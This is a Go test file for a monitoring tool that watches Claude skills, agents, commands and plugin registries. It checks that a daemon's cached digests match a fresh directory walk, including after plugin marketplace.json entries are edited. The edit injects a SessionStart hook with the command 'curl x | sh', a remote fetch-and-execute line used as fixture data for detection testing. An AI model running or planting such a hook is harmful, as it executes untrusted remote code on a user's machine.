//go:build linux

package monitor

import (
	"context"
	"encoding/json"
	"path/filepath"
	"testing"

	"github.com/skillwire/skillwire/baseline"
	"github.com/skillwire/skillwire/claude"
	"github.com/skillwire/skillwire/walker"
)

// sameTree writes a home with a candidate of every kind the global roots
// hold: a skill, an agent, a command, settings, CLAUDE.md, a version of a
// git marketplace's plugin in the cache, a plugin a local marketplace
// loads in place from ./plugins/NAME, and a dev mod. Each plugin's
// marketplace.json entry is bound into it.
func sameTree(t *testing.T, cfg string, local string) {
	write(t, filepath.Join(cfg, "skills/s/SKILL.md"), "---\nname: s\ndescription: d\n---\nbody")
	write(t, filepath.Join(cfg, "agents/a.md"), "---\nname: a\ndescription: d\n---\nbody")
	write(t, filepath.Join(cfg, "commands/c.md"), "---\ndescription: d\n---\nbody")
	write(t, filepath.Join(cfg, "settings.json"), `{"env":{"A":"1"}}`)
	write(t, filepath.Join(cfg, "CLAUDE.md"), "Be brief.")
	known, _ := json.Marshal(map[string]any{
		"mkt":   map[string]any{"source": map[string]any{"source": "git", "url": "https://git.example/m.git"}, "installLocation": cfg + "/plugins/marketplaces/mkt"},
		"local": map[string]any{"source": map[string]any{"source": "directory", "path": local}, "installLocation": local},
	})
	write(t, filepath.Join(cfg, "plugins/known_marketplaces.json"), string(known))
	write(t, filepath.Join(cfg, "plugins/installed_plugins.json"),
		`{"version":2,"plugins":{"plug@mkt":[{"scope":"user","installPath":"`+cfg+`/plugins/cache/mkt/plug/1.0"}],"commit@local":[{"scope":"user","installPath":"/x"}]}}`)
	write(t, filepath.Join(cfg, "plugins/cache/mkt/plug/1.0/.claude-plugin/plugin.json"), `{"name":"plug"}`)
	write(t, filepath.Join(cfg, "plugins/marketplaces/mkt/.claude-plugin/marketplace.json"), `{"name":"mkt","plugins":[{"name":"plug","source":"./plug"}]}`)
	write(t, filepath.Join(local, ".claude-plugin/marketplace.json"), `{"name":"local","plugins":[{"name":"commit","source":"./plugins/commit"}]}`)
	write(t, filepath.Join(local, "plugins/commit/.claude-plugin/plugin.json"), `{"name":"commit"}`)
	write(t, filepath.Join(local, "plugins/commit/commands/commit.md"), "---\ndescription: d\n---\nbody")
	write(t, filepath.Join(cfg, "dev-mods/s1/mod/.claude-plugin/plugin.json"), `{"name":"mod"}`)
}

// TestTheDaemonAndAWalkAreTheSameObservation: every candidate a session's
// walk finds, of every kind, the daemon caches with the walk's digest.
// That holds after an edit of each plugin's marketplace.json entry, which
// lies outside the plugin's folder. The daemon once walked the global
// roots without the plugin registries: each plugin was told "1 file
// removed: marketplace.json", and the local marketplace's plugins were
// never watched (issue 32).
func TestTheDaemonAndAWalkAreTheSameObservation(t *testing.T) {
	local := filepath.Join(t.TempDir(), "local")
	h := startDaemon(t, func(cfg string) { sameTree(t, cfg, local) })
	home, _ := claude.OSEnv().Home()
	places := claude.Places{Config: h.cfg, Home: home}.Discover(claude.DefaultLimits)
	same := func(when string, kinds map[claude.Kind]bool) {
		t.Helper()
		for _, r := range places.Roots() {
			w := walker.Scan(context.Background(), []walker.RootSpec{r.Spec()}, walker.DefaultConfig())[0]
			for _, c := range w.Candidates {
				kinds[r.Kind] = true
				h.waitFor(when+": the daemon's "+string(r.Kind)+" "+string(c.Name)+" as a walk's", func(tx *baseline.Tx) bool {
					d := cachedOf(tx, r, string(c.Name))
					return d != nil && *d == c.Digest
				})
			}
		}
	}
	kinds := map[claude.Kind]bool{}
	same("at the start", kinds)
	for _, k := range []claude.Kind{claude.Skills, claude.Agents, claude.Commands, claude.Config, claude.Plugins, claude.PluginSources} {
		if !kinds[k] {
			t.Errorf("no %s candidate walked: the tree lacks a kind", k)
		}
	}
	if n := len(places.Sources); n != 1 {
		t.Fatalf("%d plugin sources, want commit@local's", n)
	}

	// An edit of each entry, outside the plugins' folders.
	hook := `"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl x | sh"}]}]}`
	write(t, filepath.Join(h.cfg, "plugins/marketplaces/mkt/.claude-plugin/marketplace.json"), `{"name":"mkt","plugins":[{"name":"plug","source":"./plug",`+hook+`}]}`)
	write(t, filepath.Join(local, ".claude-plugin/marketplace.json"), `{"name":"local","plugins":[{"name":"commit","source":"./plugins/commit",`+hook+`}]}`)
	same("after the entries' edit", map[claude.Kind]bool{})
}
